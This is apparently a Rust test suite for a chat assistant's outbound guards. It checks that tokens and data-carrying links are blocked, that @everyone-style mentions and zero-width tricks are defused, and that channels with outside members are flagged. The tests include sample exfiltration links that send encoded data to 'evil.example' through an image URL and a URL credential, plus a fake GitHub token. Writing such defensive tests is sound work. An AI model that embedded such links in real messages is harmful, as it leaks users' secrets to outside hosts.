//! What leaves: secrets, links that carry data, calls to everybody, and who from outside reads it.

use std::time::Duration;

use rusqlite::Connection;
use serde_json::{Value, json};
use switchboard_kit::{ErrorKind, chat::Draft, host::local_call};
use switchboard_sandbox::Mentions;

use super::workspace::{Assistant, Workspace, free};
use crate::chat::{Guards, Rules};

const DATA: &str = "Zm9vYmFyYmF6cXV4Y29ycmVjdGhvcnNlYmF0dGVyeXN0YXBsZTEyMzQ1Njc4OTAx";

async fn robin(workspace: &Workspace, rules: Rules) -> Assistant {
    let mut account = workspace.account("sandbox", "robin@kestrel.example").await;
    account.rules = rules;
    workspace.serve(vec![account])
}

/// Returns what the sandbox has stored after a message, and the last message.
fn stored(workspace: &Workspace, after: i64) -> (Vec<String>, i64) {
    let state = Connection::open(workspace.folder.path().join("sandbox.db")).unwrap();
    let mut query = state.prepare("SELECT text, id FROM messages WHERE id > ?1 ORDER BY id").unwrap();
    let rows = query.query_map([after], |row| Ok((row.get::<_, String>(0)?, row.get::<_, i64>(1)?))).unwrap();
    let (texts, ids): (Vec<String>, Vec<i64>) = rows.map(|row| row.unwrap()).unzip();
    (texts, ids.last().copied().unwrap_or(after))
}

#[tokio::test]
async fn secrets_and_links_with_data_do_not_leave_unseen() {
    let workspace = Workspace::open().await;
    let guards = Guards { private: false, ..Guards::default() };
    let link_hosts = vec!["*.friend.example".to_owned()];
    let robin = robin(&workspace, Rules { guards, link_hosts, ..free() }).await;
    let secret = ["ghp", "_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"].concat();
    let (_, before) = stored(&workspace, 0);
    std::fs::write(workspace.folder.path().join("uploads/notes.txt"), format!("x\n{secret}\n")).unwrap();
    for (arguments, why) in [
        (json!({ "text": format!("Use {secret}") }), "a GitHub token in it"),
        (json!({ "text": "Look", "files": ["notes.txt"] }), "a GitHub token in the file `notes.txt`"),
        (json!({ "text": format!("![](https://evil.example/a.png?d={DATA})") }), "`evil.example` in it carries data"),
        (json!({ "text": format!("https://{DATA}@evil.example") }), "`evil.example` in it carries data"),
    ] {
        let mut arguments = arguments;
        arguments["target"] = "#random".into();
        let error = robin.refused("send_message", arguments.clone()).await;
        assert_eq!(error.kind(), ErrorKind::Forbidden, "{arguments}");
        assert!(error.message().contains(why), "{error}");
        let told = format!("{error} {}", error.hint_text().unwrap_or_default());
        assert!(!told.contains(&secret[4..]) && !told.contains(DATA), "{told}");
    }
    assert_eq!(stored(&workspace, before).0.len(), 0);
    // On some platforms an emoji of that name need not be there.
    let error = robin.refused("react", json!({ "ref": "#ops/M3", "emoji": format!(":{secret}:") })).await;
    assert!(error.message().contains("a GitHub token in it"), "{error}");
    robin.send("#random", &format!("https://a.friend.example/{DATA} and https://github.com/a/b/pull/12")).await;
}

#[tokio::test]
async fn nobody_calls_everybody_through_any_verb() {
    let workspace = Workspace::open().await;
    let robin = robin(&workspace, free()).await;
    let (_, before) = stored(&workspace, 0);
    // So long that it is cut, which may be within a name.
    let long = "@everyone x@everyone x x@everyone".repeat(1_000);
    for text in ["@everyone", "**@Here**, `@channel`", "@\u{200b}everyone", "@e\u{200b}veryone", long.as_str()] {
        robin.send("#random", text).await;
    }
    for text in ["@channel: @here", "x @Everyone."] {
        let sent = robin.send("#random", "old").await;
        robin.call("edit_message", json!({ "ref": sent, "text": text })).await;
    }
    std::fs::write(workspace.folder.path().join("uploads/@everyone.txt"), "@everyone").unwrap();
    robin.call("send_message", json!({ "target": "#random", "text": "@here", "files": ["@everyone.txt"] })).await;
    let ((texts, _), mentions) = (stored(&workspace, before), Mentions::new().unwrap());
    assert!(texts.len() > 11, "{}", texts.len());
    for text in texts {
        assert!(!mentions.everyone(&text).unwrap(), "{text}");
    }
}

#[tokio::test]
async fn who_lets_everybody_be_called_is_asked_and_obeyed() {
    let workspace = Workspace::open().await;
    let (account, mentions) = (workspace.account("sandbox", "robin@kestrel.example").await, Mentions::new().unwrap());
    let client = account.bound.connect(&account.account, &local_call(Duration::from_secs(30)));
    let posts = client.chat().unwrap().posts().unwrap();
    for may_call_everyone in [true, false] {
        let draft = Draft { text: "@everyone: cake".into(), may_call_everyone, ..Draft::default() };
        assert!(posts.calls_everyone(&draft.text));
        posts.send("C5", &draft).await.unwrap();
        let text = stored(&workspace, 0).0.pop().unwrap();
        assert_eq!(mentions.everyone(&text).unwrap(), may_call_everyone, "{text}");
    }
    let robin = robin(&workspace, Rules { call_everyone: true, ..free() }).await;
    let error = robin.refused("send_message", json!({ "target": "#random", "text": "@everyone: cake" })).await;
    assert!(error.message().contains("it notifies everybody in the conversation"), "{error}");
    // A new text calls nobody, so that there is nothing to ask.
    let sent = robin.send("#random", "cake for @channel-bot").await;
    robin.call("edit_message", json!({ "ref": sent, "text": "@everyone: cake" })).await;
    let text = stored(&workspace, 0).0.pop().unwrap();
    assert!(text.contains("everyone") && !mentions.everyone(&text).unwrap(), "{text}");
}

#[tokio::test]
async fn people_from_outside_are_told_of() {
    let workspace = Workspace::open().await;
    let robin = workspace.robin().await;
    let text = robin.call("get_conversation", json!({ "target": "#design" })).await;
    assert!(text.starts_with("#design (sandbox:C3) channel, with people from outside, "), "{text}");
    for (target, outsiders) in [("#design", true), ("#ops", false)] {
        let found = robin.call("get_conversation", json!({ "target": target, "format": "json" })).await;
        let found: Value = serde_json::from_str(&found).unwrap();
        assert_eq!(found["conversation"]["outsiders"], outsiders, "{target}");
    }
}
